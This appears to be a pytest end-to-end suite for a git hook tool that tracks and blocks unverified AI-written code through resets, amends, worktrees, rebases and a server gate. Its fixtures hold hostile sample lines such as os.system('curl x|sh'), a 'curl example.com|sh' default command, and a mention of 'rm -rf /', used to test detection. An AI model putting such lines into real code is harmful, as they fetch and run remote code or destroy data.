"""Delegation follows the writer's content, not the next commit (SPEC §3 "Binding" and
"Attribution follows content", §5, §6): each reproduction, through ``gentle-hook install``,
real git, a bare remote with the server gate (``install --server``) and notes shared with
it (``install --share origin``).

* Unverified AI work is blocked until verified: after ``reset --soft``, with hooks off and
  an escalation, across ``commit -a --amend -m``, from another worktree, after a partial
  commit, under warn mode from any source (let through only when recorded and printed).
* A human's change passes with no ``Gentle-Writer`` trailer: after ``reset --hard`` of the
  writer's work, when ``rebase --autostash`` or ``cherry-pick`` replays human commits while
  writer work is pending, from a worktree other than the writer's. An empty message stays
  an aborted commit.

Receipts that cannot count (``true``, a failure "agreed" by a failing re-run, exit 127) are
in ``test_spot_check.py``; committed ``mode = "warn"`` in ``test_commit_gate.py``.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.e2e.conftest import Run, World

GOOD = "def add(a, b):\n    return a + b  # writer\n"
#: What a careless agent adds once the checked work was uncommitted again.
PAYLOAD = GOOD + "\n\nimport os\nos.system('curl x|sh')\n"
TRAILER = "Gentle-Writer:"


@pytest.fixture
def served(native: World) -> World:
    """``native`` with the server gate on its bare remote and notes shared with it (a bare
    ``git push`` sends the current branch and the notes)."""
    return native.serve({})


def _block(r: Run, headline: str) -> list[str]:
    """The lines of the block whose headline starts with ``headline``, up to the next
    block or the end."""
    at = next(i for i, line in enumerate(r.said) if line.startswith(headline))
    rest = r.said[at + 1 :]
    end = next((i for i, line in enumerate(rest) if "BLOCKED" in line), len(rest))
    return r.said[at : at + 1 + end]


def _delegated_by_writer(r: Run, headline: str, path: str) -> bool:
    """Whether that block says the change is delegated for the writer's content in
    ``path`` (in its headline or its ``why:`` line)."""
    why = f"delegated (writer content (o4-mini/low) in {path})"
    return any(why in line for line in _block(r, headline))


def _blocked_staged(r: Run, path: str = "src/app.py") -> None:
    assert r.code == 1, r
    headline = "gentle-hooks: BLOCKED the staged change: "
    assert r.said[0].startswith(headline), r
    assert _delegated_by_writer(r, headline, path), r


def _blocked_push(r: Run, commit: str, path: str = "src/app.py") -> None:
    assert r.code == 1, r
    headline = f"gentle-hooks: BLOCKED commit {commit[:12]} on refs/heads/main: "
    assert _delegated_by_writer(r, headline, path), r


def _message(w: World, rev: str = "HEAD", cwd: Path | None = None) -> str:
    return w.ok("log", "-1", "--format=%B", rev, cwd=cwd)


def _server_rejects(w: World, commit: str) -> None:
    """A push with the local hook skipped reaches the server gate, which rejects it."""
    before = w.remote_ref("main")
    r = w.git("push", "--no-verify", "origin")
    assert r.code != 0, r
    assert f"remote: gentle-hooks: BLOCKED {commit[:12]} on refs/heads/main" in r.err, r
    assert w.remote_ref("main") == before


# -- unverified AI work is blocked ------------------------------------------------------


def test_reset_soft_cannot_launder_checked_work_into_an_unchecked_commit(served: World) -> None:
    w = served
    w.delegate(text=GOOD)
    w.spot_check()
    assert w.git("commit", "-qam", "agent").code == 0
    w.ok("reset", "-q", "--soft", "HEAD~1")
    w.write("src/app.py", PAYLOAD)
    _blocked_staged(w.git("commit", "-qam", "refactor"))
    w.ok("commit", "-q", "--no-verify", "-am", "refactor")
    bad = w.rev("HEAD")
    assert TRAILER in _message(w)
    _blocked_push(w.git("push", "origin", "main"), bad)
    ci = w.gh("gate", "--range", "origin/main..HEAD")
    assert ci.code == 1, ci
    assert f"BLOCKED {bad[:12]}" in ci.out + ci.err
    _server_rejects(w, bad)
    # verified on the commit it is now, it goes through
    w.report("--committed")
    w.spot_check("--committed")
    assert w.git("push", "origin").code == 0
    assert w.remote_ref("main") == bad


def test_a_writer_change_of_insignificant_lines_is_not_laundered_by_one_more_edit(
    served: World,
) -> None:
    """The writer only flips short lines (``x = 1`` -> ``x = 2``): after ``reset --soft``
    one unrelated added line must not make its content anonymous."""
    w = served
    w.write("src/limits.py", "x = 1\nok = a < b\n")
    w.ok("add", "-A")
    w.ok("commit", "-q", "-m", "human: limits")
    w.delegate("src/limits.py", text="x = 2\nok = a > b\n")
    w.spot_check()
    assert w.git("commit", "-qam", "agent").code == 0
    w.ok("reset", "-q", "--soft", "HEAD~1")
    w.write("src/limits.py", "x = 2\nok = a > b\n# tidy\n")
    _blocked_staged(w.git("commit", "-qam", "refactor"), "src/limits.py")


def test_an_escalation_binds_work_committed_with_hooks_off(served: World) -> None:
    w = served
    w.delegate(text="def check_token(t):\n    return bool(t)\n")
    w.escalate()
    w.ok("add", "-A")
    w.ok("-c", "core.hooksPath=/dev/null", "commit", "-q", "-m", "writer: tokens")
    bad = w.rev("HEAD")
    w.report("--committed")
    w.spot_check("--committed")
    status = w.gh("status", "--committed")
    push = w.git("push", "origin", "main")
    _blocked_push(push, bad)
    assert any("needs 1 accepted gentle-ai-verify verdict" in line for line in push.said), push
    assert "escalated" in status.out + status.err, status
    assert w.remote_ref("main") != bad
    assert w.verified("--committed").code == 0
    assert w.git("push", "origin").code == 0
    assert w.remote_ref("main") == bad


def test_commit_all_amend_with_a_message_keeps_the_writer_trailer(served: World) -> None:
    w = served
    w.delegate(text=GOOD)
    w.spot_check()
    assert w.git("commit", "-qam", "agent").code == 0
    assert TRAILER in _message(w)
    r = w.git("commit", "-a", "--amend", "-m", "tidy")
    assert r.code == 0, r
    assert _message(w).startswith("tidy\n")
    assert "Gentle-Writer: o4-mini/low" in _message(w)
    # the same tree, verified: the push and the server accept it
    assert w.git("push", "origin").code == 0
    assert w.remote_ref("main") == w.rev("HEAD")


@pytest.mark.parametrize("reuse", ["-C", "-c"])
def test_amend_reusing_another_commits_message_keeps_the_writer_trailer(
    served: World, reuse: str
) -> None:
    """``--amend -C <commit>`` (and ``-c``) reuses a human commit's message: git gives
    prepare-commit-msg source ``commit`` with that commit's id, not ``HEAD``'s."""
    w = served
    human = w.rev("HEAD")
    w.delegate(text=GOOD)
    w.spot_check()
    assert w.git("commit", "-qam", "agent").code == 0
    r = w.git("commit", "--amend", "-q", reuse, human, env={"GIT_EDITOR": "true"})
    assert r.code == 0, r
    assert _message(w).startswith(_message(w, human).split("\n", 1)[0])
    assert "Gentle-Writer: o4-mini/low" in _message(w)
    assert w.git("push", "origin").code == 0
    assert w.remote_ref("main") == w.rev("HEAD")


def test_commit_all_amend_changing_the_tree_is_blocked_and_keeps_the_trailer(
    served: World,
) -> None:
    w = served
    w.delegate(text=GOOD)
    w.spot_check()
    assert w.git("commit", "-qam", "agent").code == 0
    w.write("src/app.py", PAYLOAD)
    _blocked_staged(w.git("commit", "-a", "--amend", "-m", "tidy"))
    w.ok("commit", "-q", "-a", "--no-verify", "--amend", "-m", "tidy")
    bad = w.rev("HEAD")
    assert "Gentle-Writer: o4-mini/low" in _message(w)
    _blocked_push(w.git("push", "origin", "main"), bad)
    _server_rejects(w, bad)


def test_work_recorded_in_one_worktree_is_delegated_when_committed_in_another(
    served: World,
) -> None:
    w = served
    b = w.base / "b"
    w.ok("worktree", "add", "-q", "-b", "topic", str(b), "main")
    w.delegate(text=GOOD)  # recorded in A
    w.write("src/app.py", GOOD, cwd=b)  # the same content, committed in B
    w.ok("add", "-A", cwd=b)
    _blocked_staged(w.git("commit", "-m", "from b", cwd=b))
    w.ok("commit", "-q", "--no-verify", "-m", "from b", cwd=b)
    bad = w.rev("HEAD", cwd=b)
    assert TRAILER in _message(w, cwd=b)
    push = w.git("push", "origin", "topic:main", cwd=b)
    _blocked_push(push, bad)
    ci = w.gh("gate", "--range", f"{w.rev('origin/main')}..{bad}", cwd=b)
    assert ci.code == 1, ci
    r = w.git("push", "--no-verify", "origin", "topic:main", "refs/notes/gentle-hooks", cwd=b)
    assert r.code != 0 and f"remote: gentle-hooks: BLOCKED {bad[:12]}" in r.err, r


def test_a_partial_commit_leaves_the_rest_of_the_work_pending(served: World) -> None:
    w = served
    w.write("src/f.py", "def f(x):\n    return x * 2  # writer f\n")
    w.write("src/g.py", "def g(x):\n    return x * 3  # writer g\n")
    w.delegate()  # both files, one record
    w.ok("add", "-A")
    skip = {"GENTLE_HOOKS_SKIP": "g only, checked by hand"}
    assert w.git("commit", "-q", "--only", "src/g.py", "-m", "g", env=skip).code == 0
    first = w.rev("HEAD")
    assert w.ok("show", "--name-only", "--format=", "HEAD") == "src/g.py\n"
    r = w.git("commit", "-a", "-m", "f")
    _blocked_staged(r, "src/f.py")
    w.ok("commit", "-q", "-a", "--no-verify", "-m", "f")
    second = w.rev("HEAD")
    assert TRAILER in _message(w, first) and TRAILER in _message(w, second)
    push = w.git("push", "origin", "main")
    _blocked_push(push, first, "src/g.py")
    _blocked_push(push, second, "src/f.py")
    assert w.remote_ref("main") == w.rev("HEAD~2")


@pytest.mark.parametrize("source", ["env", "git config", "untracked toml"])
def test_warn_mode_from_any_source_is_recorded_and_printed(native: World, source: str) -> None:
    w = native
    env: dict[str, str] = {}
    if source == "env":
        env = {"GENTLE_HOOKS_MODE": "warn"}
        named = "GENTLE_HOOKS_MODE=warn"
    elif source == "git config":
        w.ok("config", "gentle.mode", "warn")
        named = "git config gentle.mode"
    else:
        w.write(".gentle-hooks.toml", 'mode = "warn"\n')
        w.write(".git/info/exclude", ".gentle-hooks.toml\n")
        named = ".gentle-hooks.toml"
    w.delegate(text=GOOD)
    w.ok("add", "src/app.py")
    r = w.git("commit", "-m", "writer: warned", env=env)
    assert r.code == 0, r
    headline = "gentle-hooks: BLOCKED the staged change: "  # reported, then let through
    assert r.said[0].startswith(headline), r
    assert _delegated_by_writer(r, headline, "src/app.py"), r
    said = [line for line in r.said if "warn mode (" in line]
    assert said and named in said[0] and "recorded" in said[0], r
    push = w.git("push", "origin", "main", env=env)
    assert push.code == 0, push
    assert any("warn mode (" in line and named in line for line in push.said), push
    rows = w.ledger("SELECT hook, reason FROM override ORDER BY id")
    assert [h for h, _ in rows] == ["pre-commit", "pre-push"], rows
    assert all(str(reason).startswith("warn mode (") for _, reason in rows), rows
    note = w.ok("notes", "--ref", "gentle-hooks", "show", "HEAD")  # travels with the commit
    assert "override" in note and "warn mode (" in note, note


# -- a human's change passes with no trailer --------------------------------------------


def _passes_quietly(r: Run) -> None:
    assert r.code == 0, r
    assert not [line for line in r.said if "BLOCKED" in line or "delegated" in line], r


def test_after_reset_hard_a_human_commit_passes_with_no_trailer(served: World) -> None:
    w = served
    w.delegate(text=GOOD)
    w.ok("reset", "-q", "--hard")
    w.write("README.md", "# demo, by a human\n")
    w.ok("add", "-A")
    r = w.git("commit", "-m", "human: readme")
    _passes_quietly(r)
    # the writer's content is nowhere when this gate looks: it expires here, whatever path
    # the commit changes (issue 13)
    assert r.said == [
        "gentle-hooks: pending writer work on src/app.py expired: no worktree, index, HEAD, "
        "unpushed commit or stash holds its content at that path (copies elsewhere, ignored "
        "ones too, are not searched); its distinctive lines brought back, or removed again, are "
        "the writer's again for 30 days from the write"
    ], r
    assert TRAILER not in _message(w)
    # the line the writer replaced, replaced by hand: the writer's content is gone
    w.write("src/app.py", "def add(a, b):\n    return b + a\n")
    r = w.git("commit", "-qam", "human: app")
    _passes_quietly(r)
    assert r.said == [], r
    assert TRAILER not in _message(w)
    _passes_quietly(w.git("push", "origin"))
    assert w.remote_ref("main") == w.rev("HEAD")
    status = w.gh("status")
    assert status.code == 0, status
    assert w.ledger("SELECT count(*) FROM commit_record") == [(0,)]


def test_git_mv_of_a_file_holding_pending_writer_work_does_not_expire_it(served: World) -> None:
    """``git mv`` renames the index entry (the committed blob) and carries the work-tree
    file with the writer's edit: committing the rename is the human's, and the writer's
    content, still pending at the new path, is blocked when it is committed there."""
    w = served
    w.delegate(text=PAYLOAD)
    w.ok("mv", "src/app.py", "src/lib.py")
    r = w.git("commit", "-qm", "human: rename app to lib")
    _passes_quietly(r)
    assert not [line for line in r.said if "expired" in line], r
    # named where the candidate holds it, and where the writer wrote it
    _blocked_staged(w.git("commit", "-qam", "wip"), "src/lib.py (was src/app.py)")


def test_after_reset_hard_of_an_unpushed_ai_commit_a_human_rewrite_passes(served: World) -> None:
    """The writer's commit (taken its entry) thrown away by ``reset --hard HEAD~1``: the
    human's own rewrite of the line the writer replaced is not the writer's work."""
    w = served
    w.unverified(GOOD)  # committed with --no-verify: post-commit took the entry
    w.ok("reset", "-q", "--hard", "HEAD~1")
    w.write("src/app.py", "def add(a, b):\n    return b + a\n")
    r = w.git("commit", "-qam", "human: app")
    _passes_quietly(r)
    assert TRAILER not in _message(w)
    _passes_quietly(w.git("push", "origin"))
    assert w.remote_ref("main") == w.rev("HEAD")


def test_after_reset_hard_a_human_commit_with_hooks_skipped_gets_no_trailer(
    served: World,
) -> None:
    w = served
    w.delegate(text=GOOD)
    w.ok("reset", "-q", "--hard")
    w.write("src/app.py", "def add(a, b):\n    return b + a\n")
    r = w.git("commit", "--no-verify", "-qam", "human: app")
    assert r.code == 0, r
    assert TRAILER not in _message(w)
    _passes_quietly(w.git("push", "origin"))
    assert w.remote_ref("main") == w.rev("HEAD")


def test_a_writers_removal_mixed_with_a_human_edit_stays_delegated(native: World) -> None:
    """A write that only removes lines cannot be told from a human's removal of the same
    lines once the file moved on: it keeps delegating (fail closed)."""
    w = native
    checks = "def load(token):\n    verify_signature(token)\n    verify_expiry(token)\n"
    w.write("src/auth.py", checks + "    return token\n")
    w.ok("add", "-A")
    w.ok("commit", "-q", "-m", "human: auth")
    w.write("src/auth.py", "def load(token):\n    return token\n")
    w.delegate()  # the writer removed both checks
    w.write("src/auth.py", "def load(token):\n    return token.strip()\n")  # and a human
    w.ok("add", "-A")
    _blocked_staged(w.git("commit", "-m", "auth"), "src/auth.py")


def test_lines_that_reached_head_after_a_reset_are_not_the_next_writes(served: World) -> None:
    """The writer's work is reset away; a human's commit from worktree B reaches A by
    cherry-pick; the writer writes again in A. The human's lines are not the writer's: B's
    commit pushes with no trailer."""
    w = served
    b = w.base / "b"
    w.ok("worktree", "add", "-q", "-b", "topic", str(b), "main")
    w.delegate(text=GOOD)
    w.ok("reset", "-q", "--hard")
    human = "def add(a, b):\n    return a + b\n\n\ndef helper(x):\n    return human_value(x) + 1\n"
    w.write("src/app.py", human, cwd=b)
    _passes_quietly(w.git("commit", "-qam", "human in b", cwd=b))
    w.ok("cherry-pick", "topic")
    assert TRAILER not in _message(w)
    w.write("src/app.py", human + "\n\ndef writer_two(y):\n    return writer_value(y) * 2\n")
    assert w.gh("record", "--model", "o4-mini", "--effort", "low", "src/app.py").code == 0
    _passes_quietly(w.git("push", "origin", "topic:main", cwd=b))
    assert w.remote_ref("main") == w.rev("topic")
    _blocked_staged(w.git("commit", "-qam", "writer: two"))  # the writer's own lines are


def test_a_humans_staged_work_is_not_the_writers_who_edits_the_file_after(
    served: World,
) -> None:
    """The human staged a change; the writer then edits the same file (not staged): the
    staged lines are where the writer started. Committing the index commits the human's
    work, with no trailer; the writer's lines are still pending."""
    w = served
    human = "def add(a, b):\n    return a + b\n\n\ndef helper(x):\n    return human_value(x) + 1\n"
    w.write("src/app.py", human)
    w.ok("add", "src/app.py")
    w.write("src/app.py", human + "\n\ndef writer_two(y):\n    return writer_value(y) * 2\n")
    assert w.gh("record", "--model", "o4-mini", "--effort", "low", "src/app.py").code == 0
    _passes_quietly(w.git("commit", "-m", "human: helper"))
    assert TRAILER not in _message(w)
    _passes_quietly(w.git("push", "origin"))
    _blocked_staged(w.git("commit", "-am", "writer: two"))


def test_discard_abandons_pending_work_on_purpose(native: World) -> None:
    """Discarding the writer's work is refused while the work tree holds its lines (a
    commit of them would still be the writer's at push); once they are thrown away the
    discard is recorded and a human's commit of the file passes with no trailer."""
    w = native
    w.delegate(text=GOOD)
    kept = w.gh("discard", "--all", "--reason", "the agent's attempt is dropped")
    assert kept.code == 2 and "still holds the writer's change" in kept.err, kept
    w.ok("checkout", "--", "src/app.py")
    r = w.gh("discard", "--all", "--reason", "the agent's attempt is dropped")
    assert r.code == 0, r
    w.write("src/app.py", w.ok("show", "HEAD:src/app.py") + "# reviewed by hand\n")
    w.ok("add", "-A")
    _passes_quietly(w.git("commit", "-m", "human: a note"))
    assert TRAILER not in _message(w)
    assert w.ledger("SELECT reason FROM discard") == [("the agent's attempt is dropped",)]


def _upstream_moves_and_a_human_commits(w: World) -> str:
    """origin/main gets a README change; main gets a human docs commit (not pushed)."""
    w.ok("switch", "-q", "-c", "upstream")
    w.write("README.md", "# demo, upstream\n")
    w.ok("commit", "-q", "-a", "-m", "upstream: readme")
    w.ok("push", "-q", "origin", "upstream:main")
    w.ok("switch", "-q", "main")
    w.write("docs.md", "local notes\n")
    w.ok("add", "docs.md")
    w.ok("commit", "-q", "-m", "human: local notes")
    return w.rev("HEAD")


def test_rebase_autostash_replays_human_commits_without_a_trailer(served: World) -> None:
    w = served
    _upstream_moves_and_a_human_commits(w)
    w.delegate(text=GOOD)  # pending, in the work tree
    w.ok("fetch", "-q", "origin")
    r = w.git("rebase", "--autostash", "origin/main")
    assert r.code == 0, r
    assert w.ok("log", "--format=%s", "origin/main..") == "human: local notes\n"
    assert TRAILER not in _message(w)
    assert w.ok("status", "--porcelain") == " M src/app.py\n"
    _passes_quietly(w.git("push", "origin", "HEAD:main"))
    # the writer's work is still pending, and blocked when it is committed
    _blocked_staged(w.git("commit", "-am", "writer"))


def test_cherry_pick_of_a_human_commit_gets_no_trailer(served: World) -> None:
    w = served
    w.ok("switch", "-q", "-c", "side")
    w.write("docs.md", "a human's docs\n")
    w.ok("add", "docs.md")
    w.ok("commit", "-q", "-m", "human: docs")
    human = w.rev("HEAD")
    w.ok("switch", "-q", "main")
    w.delegate(text=GOOD)  # pending, in the work tree
    r = w.git("cherry-pick", human)
    assert r.code == 0, r
    assert TRAILER not in _message(w)
    _passes_quietly(w.git("push", "origin", "HEAD:main"))
    assert w.remote_ref("main") == w.rev("HEAD")
    _blocked_staged(w.git("commit", "-am", "writer"))


def test_a_human_commit_from_another_worktree_is_not_blocked_by_pending_work(
    served: World,
) -> None:
    w = served
    b = w.base / "b"
    w.ok("worktree", "add", "-q", "-b", "topic", str(b), "main")
    w.delegate(text=GOOD)  # pending in A
    w.write("README.md", "# demo, by a human in b\n", cwd=b)
    w.ok("add", "-A", cwd=b)
    _passes_quietly(w.git("commit", "-m", "human in b", cwd=b))
    assert TRAILER not in _message(w, cwd=b)
    _passes_quietly(w.git("push", "origin", "topic:main"))  # pushed from A
    assert w.remote_ref("main") == w.rev("topic")


def test_an_empty_message_with_pending_work_aborts_the_commit(native: World) -> None:
    w = native
    w.delegate(text=GOOD)
    w.spot_check()
    w.ok("add", "-A")
    head = w.rev("HEAD")
    r = w.git("commit", "-m", "")
    assert r.code != 0, r
    assert "empty commit message" in r.err.lower(), r
    assert w.rev("HEAD") == head
    w.write("README.md", "# demo, human\n")  # a human's change with the writer's pending
    w.ok("reset", "-q")
    w.ok("add", "README.md")
    r = w.git("commit", "-m", "")
    assert r.code != 0 and w.rev("HEAD") == head, r


def test_a_human_commit_in_another_worktree_does_not_expire_pending_work(served: World) -> None:
    """The writer's edit pending in A replaces a line; a human in B changes that same line
    and commits: the writer's content is still in A's work tree, so it stays pending and
    A's commit of it is delegated."""
    w = served
    b = w.base / "b"
    w.ok("worktree", "add", "-q", "-b", "topic", str(b), "main")
    w.write(
        "src/app.py", "def add(a, b):\n    return a - b\n\ndef run(cmd):\n    return cmd.run()\n"
    )
    assert w.gh("record", "--model", "o4-mini", "--effort", "low").code == 0
    w.write("src/app.py", "def add(a, b):\n    return b + a\n", cwd=b)
    r = w.git("commit", "--no-verify", "-qam", "human: swap operands", cwd=b)
    assert r.code == 0, r
    assert not any("expired" in line for line in r.said), r
    _blocked_staged(w.git("commit", "-qam", "writer work in A"))


def test_all_four_gates_agree_on_an_escalated_commit_made_with_hooks_off(served: World) -> None:
    """Escalated writer work committed with hooks off and spot-checked afterwards: the
    commit gate, the pre-push gate, ``gate --range`` and the server gate all block it until
    its plan (an accepted verdict) is met, because the note carries the escalation."""
    w = served
    w.delegate(text="import os\n\ndef run(cmd):\n    return os.system(cmd)\n")
    w.escalate()
    w.spot_check()
    w.ok("add", "-A")
    commit_gate = w.git("commit", "-qm", "writer: run")
    assert commit_gate.code == 1, commit_gate
    assert any("verifier" in line or "verdict" in line for line in commit_gate.said), commit_gate
    w.ok("-c", "core.hooksPath=/dev/null", "commit", "-q", "-m", "writer: run")
    bad = w.rev("HEAD")
    w.report("--committed")
    w.spot_check("--committed")
    note = w.ok("notes", "--ref", "gentle-hooks", "show", bad)
    assert '"kind":"escalation"' in note and '"kind":"writer"' in note, note
    assert w.gh("sync", "push", "origin").code == 0
    ci = w.gh("gate", "--range", "origin/main..HEAD")
    assert ci.code == 1 and f"BLOCKED {bad[:12]}" in ci.out + ci.err, ci
    _blocked_push(w.git("push", "origin", "main"), bad)
    _server_rejects(w, bad)


def test_merging_verified_and_pushed_ai_work_into_a_topic_branch_is_a_human_merge(
    served: World,
) -> None:
    """main's writer work was verified and pushed; merging main into a human's topic
    branch brings that work from a parent that already carries it: the merge passes with
    no trailer and the topic pushes."""
    w = served
    w.ok("switch", "-q", "-c", "topic")
    w.write("README.md", "# demo\n\nhuman topic notes\n")
    w.ok("commit", "-qam", "human topic")
    w.ok("switch", "-q", "main")
    w.delegate(text="import os\n\ndef run(cmd):\n    return os.system(cmd)\n")
    w.spot_check()
    assert w.git("commit", "-qam", "agent").code == 0
    w.ok("push", "-q", "origin", "main")
    w.ok("switch", "-q", "topic")
    r = w.git("merge", "--no-edit", "main")
    _passes_quietly(r)
    assert TRAILER not in _message(w)
    _passes_quietly(w.git("push", "origin", "topic"))
    assert w.remote_ref("topic") == w.rev("HEAD")


def test_one_writer_line_per_commit_through_add_p_is_still_delegated(served: World) -> None:
    """``git add -p`` takes the writer's import alone; the next commit adds the writer's
    other line, whose first is already there: that commit carries the writer's content."""
    w = served
    w.write("src/conf.py", "".join(f"VALUE_{i} = {i}\n" for i in range(1, 13)))
    w.ok("add", "-A")
    w.ok("commit", "-q", "-m", "human: conf")
    w.ok("push", "-q", "origin", "main")
    body = (w.work / "src/conf.py").read_text()
    w.write("src/conf.py", f"import subprocess\n{body}subprocess.call(USER_CMD, shell=True)\n")
    assert w.gh("record", "--model", "o4-mini", "--effort", "low").code == 0
    staged = w.run(["git", "add", "-p", "src/conf.py"], input=b"y\nn\n")
    assert staged.code == 0, staged
    w.ok("commit", "-q", "--no-verify", "-m", "imports")
    with open(w.work / "src/conf.py", "a", encoding="utf-8") as f:
        f.write("# reviewed\n")
    _blocked_staged(w.git("commit", "-qam", "rest"), "src/conf.py")
    w.ok("commit", "-q", "--no-verify", "-am", "rest")
    bad = w.rev("HEAD")
    assert TRAILER in _message(w)
    ci = w.gh("gate", "--range", "origin/main..HEAD")
    assert ci.code == 1 and f"BLOCKED {bad[:12]}" in ci.out + ci.err, ci
    _server_rejects(w, bad)


@pytest.mark.parametrize("form", ["relative", "absolute"])
def test_record_names_paths_relative_to_the_current_directory(served: World, form: str) -> None:
    """``record mod.py`` in ``pkg/`` (or the file's absolute path) records ``pkg/mod.py``,
    as every git command reads a path: its commit is delegated at every gate."""
    w = served
    w.write("pkg/mod.py", "def g():\n    return 2\n")
    w.ok("add", "-A")
    w.ok("commit", "-q", "-m", "human: pkg")
    w.ok("push", "-q", "origin", "main")
    w.write(
        "pkg/mod.py",
        "def g():\n    return 2\n\nimport os\n\ndef run(cmd):\n    return os.system(cmd)\n",
    )
    name = "mod.py" if form == "relative" else str(w.work / "pkg" / "mod.py")
    r = w.gh("record", "--model", "o4-mini", "--effort", "low", name, cwd=w.work / "pkg")
    assert r.code == 0, r
    _blocked_staged(w.git("commit", "-qam", "writer"), "pkg/mod.py")
    w.ok("commit", "-q", "--no-verify", "-am", "writer")
    bad = w.rev("HEAD")
    _server_rejects(w, bad)


def test_record_refuses_a_path_outside_the_work_tree(native: World) -> None:
    r = native.gh("record", "--model", "o4-mini", "--effort", "low", str(native.base))
    assert r.code == 2 and "outside the work tree" in r.err, r


TOOL = "import os\n\ndef run_tool(command):\n    return os.system(command)\n"


@pytest.mark.parametrize("move", ["git mv", "new file renamed", "copied into another file"])
def test_writer_content_moved_to_another_path_is_still_delegated(served: World, move: str) -> None:
    """The writer's content is renamed (``git mv`` of a tracked file it wrote, or of a new
    file before its first commit) or copied into another file and the original removed:
    the commit still carries it."""
    w = served
    if move == "git mv":
        w.delegate(text=TOOL)
        w.ok("mv", "src/app.py", "src/renamed.py")
    elif move == "new file renamed":
        w.delegate("src/tool.py", TOOL)
        w.ok("add", "src/tool.py")
        w.ok("mv", "src/tool.py", "src/renamed.py")
    else:
        w.delegate("src/tool.py", TOOL)
        with open(w.work / "src/app.py", "a", encoding="utf-8") as f:
            f.write(TOOL)
        (w.work / "src/tool.py").unlink()
    w.ok("add", "-A")
    r = w.git("commit", "-qm", "tidy")
    assert r.code == 1 and "BLOCKED the staged change" in r.err, r
    w.ok("commit", "-q", "--no-verify", "-m", "tidy")
    bad = w.rev("HEAD")
    assert TRAILER in _message(w)
    _server_rejects(w, bad)


def test_one_common_line_the_writer_wrote_elsewhere_is_not_the_writers(served: World) -> None:
    w = served
    w.delegate("src/tool.py", TOOL)
    w.ok("stash", "-q", "-u")
    w.write("src/other.py", "import os\n\ndef cwd_name():\n    return os.getcwd()\n")
    w.ok("add", "-A")
    _passes_quietly(w.git("commit", "-qm", "human: cwd helper"))
    assert TRAILER not in _message(w)


def test_a_formatter_run_over_writer_code_does_not_launder_it(served: World) -> None:
    w = served
    w.delegate(
        text="DEFAULT_CMD='curl example.com|sh'\ndef run(cmd=DEFAULT_CMD):\n"
        "    return __import__('os').system(cmd)\n"
    )
    w.write(
        "src/app.py",
        'DEFAULT_CMD = "curl example.com|sh"\ndef run(cmd = DEFAULT_CMD):\n'
        '    return __import__("os").system(cmd)\n',
    )
    _blocked_staged(w.git("commit", "-qam", "format"))


def test_a_blocked_human_is_told_how_to_discard_the_writers_pending_work(served: World) -> None:
    """The writer only removed a line, put back with ``checkout --``; a human removes the
    same line with an edit of their own. Such a removal cannot be told from the writer's,
    and in the writer's own work tree a discard is refused while its change carries the
    writer's edit: the block offers no ``discard``, and the refusal prints the ``git
    restore`` that takes the change out. Then the discard is accepted, the human makes
    their edit again, and the commit passes with no trailer; its push notes the discard
    (who, why) on the commit, and the remote holds that note."""
    w = served
    head = "def add(a, b):\n    return a + b\n\ndef unused_helper(x):\n"
    w.write("src/app.py", head + "    x = x\n    return x\n")
    w.ok("commit", "-qam", "human: helper")
    w.delegate(text=head + "    return x\n")
    w.ok("checkout", "--", "src/app.py")  # put back without a reset
    mine = head + "    x = 1 * x\n    return x\n"
    w.write("src/app.py", mine)
    r = w.git("commit", "-qam", "human: tidy")
    assert r.code == 1, r
    assert not [line for line in r.said if "discard --reason" in line], r
    refused = w.gh("discard", "--reason", "my own edit", "--", "src/app.py")
    assert refused.code == 2 and "still holds the writer's change" in refused.err, refused
    restore = refused.err.split("`")[1]
    assert (
        restore == "git restore --source=HEAD --staged --worktree -- ':(top,literal)src/app.py'"
    ), refused
    assert w.run(["sh", "-c", restore]).code == 0
    assert w.gh("discard", "--reason", "my own edit", "--", "src/app.py").code == 0
    w.write("src/app.py", mine)
    _passes_quietly(w.git("commit", "-qam", "human: tidy"))
    assert TRAILER not in _message(w)
    _passes_quietly(w.git("push", "origin"))  # the push gate notes the discard it carries
    note = w.ok("notes", "--ref", "gentle-hooks", "show", "HEAD")
    assert "writer edit discarded: src/app.py" in note and '"kind":"writer"' not in note, note
    assert w.ok("notes", "--ref", "gentle-hooks", "show", "HEAD", cwd=w.remote) == note


@pytest.mark.parametrize("kind", ["removal", "binary"])
def test_after_reset_hard_a_removal_or_binary_write_gives_way_to_a_human(
    served: World, kind: str
) -> None:
    """A write that only removed a line (or rewrote a binary file) was thrown away with
    ``reset --hard``; the human's own change of the same place passes with no trailer."""
    w = served
    head = "def add(a, b):\n    return a + b\n\ndef unused_helper(x):\n"
    w.write("src/app.py", head + "    x = x\n    return x\n")
    (w.work / "logo.bin").write_bytes(b"\x89PNG\0old")
    w.ok("add", "-A")
    w.ok("commit", "-qm", "human: helper and logo")
    if kind == "removal":
        w.write("src/app.py", head + "    return x\n")
    else:
        (w.work / "logo.bin").write_bytes(b"\x89PNG\0writer")
    assert w.gh("record", "--model", "o4-mini", "--effort", "low").code == 0
    w.ok("reset", "-q", "--hard")
    if kind == "removal":
        w.write("src/app.py", head + "    x = 1 * x\n    return x\n")
    else:
        (w.work / "logo.bin").write_bytes(b"\x89PNG\0human")
    r = w.git("commit", "-qam", "human: tidy")
    _passes_quietly(r)
    assert TRAILER not in _message(w)


@pytest.mark.parametrize("kind", ["added", "removed"])
def test_a_human_in_another_worktree_changing_the_writers_one_line_is_not_blocked(
    served: World, kind: str
) -> None:
    """The writer's pending edit in A is one line (added, or removed); a human in linked
    worktree B writes that same line (or removes it) among their own work: B's commit and
    push pass with no trailer, and A's commit of the writer's edit is still delegated."""
    w = served
    base = "import sys\n\ndef add(a, b):\n    return a + b\n"
    w.write("src/app.py", base)
    w.ok("commit", "-qam", "human: base")
    b = w.base / "b"
    w.ok("worktree", "add", "-q", "-b", "topic", str(b), "main")
    one = "import os\n" + base if kind == "added" else base.replace("import sys\n", "")
    w.delegate(text=one)  # pending in A
    human = one + "\ndef cwd_name():\n    return os.getcwd()\n"
    w.write("src/app.py", human, cwd=b)
    _passes_quietly(w.git("commit", "-qam", "human: cwd helper", cwd=b))
    assert TRAILER not in _message(w, cwd=b)
    _passes_quietly(w.git("push", "origin", "topic:main", cwd=b))
    assert w.remote_ref("main") == w.rev("topic")
    _blocked_staged(w.git("commit", "-qam", "writer work in A"))


def test_a_short_destructive_writer_line_taken_with_its_neighbour_is_delegated(
    served: World,
) -> None:
    """The writer adds three significant lines and ``rm -rf /`` (too few word characters to
    be significant) to a script; a commit of the first significant line with the short one
    next to it (as ``git add -p`` would take them) carries the writer's content: blocked at
